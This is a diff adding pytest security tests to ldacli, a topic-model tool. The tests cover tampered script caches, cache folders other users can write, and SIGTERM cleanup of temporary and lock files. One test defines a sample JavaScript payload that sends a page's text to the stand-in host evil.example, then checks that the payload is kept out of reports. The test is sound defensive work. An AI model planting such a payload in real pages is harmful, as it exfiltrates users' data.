@@ -1,15 +1,21 @@
-"""ldacli on a shared machine (issue 32, rows 1, 4 and 13): a folder other users can write (a
+"""ldacli on a shared machine (issue 32, rows 1, 4, 13, 14 and 16): a folder other users can write (a
 group folder, a lab server's scratch space), with another user (``nobody``, in a process of its
 own) playing the attacks that such a folder allows. Lock and temporary files are opened with
 ``O_NOFOLLOW`` and acted on through their descriptors; nothing of ours is truncated, chmodded or
 made readable through a name someone else chose, and an output replaced behind our back is an
-error, never a success."""
+error, never a success. The report's cached scripts are used only from a folder no one else can
+write and only if they are the bytes written; a job stopped by the batch system (SIGTERM) leaves
+no temporary or lock file anywhere."""
 
 import os
+import signal
 import stat
+import subprocess
 import sys
 import textwrap
-import threading
+import time
+
+import numpy as np
 
 import pytest
 from click.testing import CliRunner
@@ -139,3 +145,83 @@ def test_a_private_file_stays_private_when_it_is_replaced(tmp_path, small_ldac, 
     umask = os.umask(0)
     os.umask(umask)
     assert stat.S_IMODE(os.stat(tmp_path / "new.tsv").st_mode) == 0o666 & ~umask
+
+
+# --- the report's cached scripts (row 16) ---------------------------------------------------------------
+
+@pytest.mark.slow
+def test_a_changed_or_truncated_script_cache_is_never_put_in_a_report(tmp_path, small_ldac, monkeypatch):
+    pytest.importorskip("vl_convert", reason="the report extra is not installed: pip install 'ldacli[report]'")
+    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
+    model = tmp_path / "m.npz"
+    assert run("train", small_ldac, "-k", 3, "--iterations", 2, "--seed", 1, "-o", model).exit_code == 0
+    assert run("report", model, "-o", tmp_path / "first.html").exit_code == 0
+    [cached] = (tmp_path / "cache" / "ldacli").iterdir()
+    bundle = cached.read_text(encoding="utf-8")
+    assert bundle in (tmp_path / "first.html").read_text(encoding="utf-8")
+    evil = "fetch('https://evil.example/'+document.body.innerText);"
+    for changed in (bundle + evil, bundle[: len(bundle) // 2]):  # whoever could write it; a disk that filled up
+        cached.write_text(changed, encoding="utf-8")
+        r = run("report", model, "-o", tmp_path / "r.html")
+        assert r.exit_code == 0, r.stderr
+        page = (tmp_path / "r.html").read_text(encoding="utf-8")
+        assert evil not in page and bundle in page
+    # a cache folder others can write is not used at all: anyone could have put a matching file there
+    os.chmod(tmp_path / "cache" / "ldacli", 0o777)
+    for f in (tmp_path / "cache" / "ldacli").iterdir():
+        f.unlink()
+    digest = cached.name
+    (tmp_path / "cache" / "ldacli" / digest).write_text(bundle + evil, encoding="utf-8")  # a wrong hash, and
+    assert run("report", model, "-o", tmp_path / "r2.html").exit_code == 0
+    assert evil not in (tmp_path / "r2.html").read_text(encoding="utf-8")
+    assert os.listdir(tmp_path / "cache" / "ldacli") == [digest]  # nothing written into it either
+
+
+# --- SIGTERM outside the training loop (row 14) ------------------------------------------------------------
+
+def _big_model(path, docs=60_000, topics=200):
+    rng = np.random.default_rng(1)
+    m = ldacli.Model(phi=rng.dirichlet(np.ones(50), topics), theta=rng.dirichlet(np.ones(topics), docs),
+                     alpha=np.full(topics, 0.1), beta=0.01, vocab=[f"w{i}" for i in range(50)],
+                     doc_ids=[str(d) for d in range(docs)], loglik_iterations=np.array([1]),
+                     loglik_per_token=np.array([-5.0]), params={"method": "cgs", "n_topics": topics})
+    m.save(str(path))
+
+
+def _term_while(cmd, folder, started):
+    """Run ``cmd``, send it SIGTERM once ``started()`` says it is at work, return it finished."""
+    proc = subprocess.Popen([sys.executable, "-m", "ldacli", *map(str, cmd)], stderr=subprocess.PIPE, text=True)
+    deadline = time.monotonic() + 120
+    while not started() and proc.poll() is None and time.monotonic() < deadline:
+        time.sleep(0.005)
+    assert proc.poll() is None, "it finished before it could be stopped: make the work bigger"
+    proc.send_signal(signal.SIGTERM)
+    proc.wait(timeout=60)
+    return proc
+
+
+def _leftovers(folder):
+    return sorted(n for n in os.listdir(folder) if n.endswith((".tmp", ".lock")))
+
+
+@pytest.mark.slow
+def test_sigterm_while_export_writes_leaves_nothing_behind(tmp_path):
+    _big_model(tmp_path / "m.npz")
+    out = tmp_path / "theta.tsv"
+    proc = _term_while(["export", tmp_path / "m.npz", "doc-topics", "-o", out], tmp_path,
+                       lambda: any(n.startswith(".theta.tsv.") and n.endswith(".tmp") for n in os.listdir(tmp_path)))
+    assert proc.returncode == 143 and proc.stderr.read().strip().endswith("stopped by SIGTERM")
+    assert _leftovers(tmp_path) == [] and not out.exists()
+
+
+@pytest.mark.slow
+def test_sigterm_while_the_final_model_is_written_leaves_nothing_behind(tmp_path):
+    from ldacli.synthetic import generate
+    corpus = generate(40_000, 5, 50, doc_length=4, seed=3).corpus
+    ldacli.write_corpus(corpus, str(tmp_path / "c.ldac"), str(tmp_path / "c.vocab"))
+    previous = tmp_path / "m.npz"
+    previous.write_bytes(b"yesterday's model")
+    proc = _term_while(["train", tmp_path / "c.ldac", "-k", 400, "--iterations", 1, "--seed", 1, "-q", "-o", previous],
+                       tmp_path, lambda: any(n.startswith(".m.npz.") and n.endswith(".tmp") for n in os.listdir(tmp_path)))
+    assert proc.returncode == 143, proc.stderr.read()
+    assert previous.read_bytes() == b"yesterday's model" and _leftovers(tmp_path) == []
